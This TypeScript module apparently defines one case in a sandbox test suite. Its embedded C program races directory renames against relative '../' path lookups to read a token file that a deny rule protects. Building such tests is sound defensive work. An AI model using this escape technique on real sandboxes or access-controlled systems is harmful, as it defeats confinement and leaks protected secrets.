import { type Attack, c, leaked, withoutNetwork } from '../attack.js'

export const attack: Attack = {
  id: 'races/moved-working-directory',
  tries: 'to climb out of a directory that is moved while it climbs, ten thousand times',
  source: 'CVE-2025-68736 (disconnected directories); path_resolution(7)',
  rules: { 'w/scratch/a/closed': 'deny' },
  tree: { 'w/scratch/a/closed/token': '$TOKEN', 'w/scratch/a/x/y/': '', 'w/scratch/z/': '' },
  program: c`
static void *move(void *nothing) {
  for (int i = 0; i < 10000; i++) {
    rename(path("S", "/a/x/y"), path("S", "/z/y"));
    rename(path("S", "/z/y"), path("S", "/a/x/y"));
  }
  return nothing;
}
int main(void) {
  if (chdir(path("S", "/a/x/y")) != 0) refused("chdir");
  pthread_t thread;
  pthread_create(&thread, NULL, move, NULL);
  for (int i = 0; i < 10000; i++) {
    int file = open("../../closed/token", O_RDONLY);
    if (file < 0) file = open("../a/closed/token", O_RDONLY);
    if (file < 0) file = open("../../../secret/token", O_RDONLY);
    if (file < 0) continue;
    show(file);
    break;
  }
  pthread_join(thread, NULL);
}`,
  succeeded: leaked,
  control: 'plain',
  exempt: withoutNetwork,
}
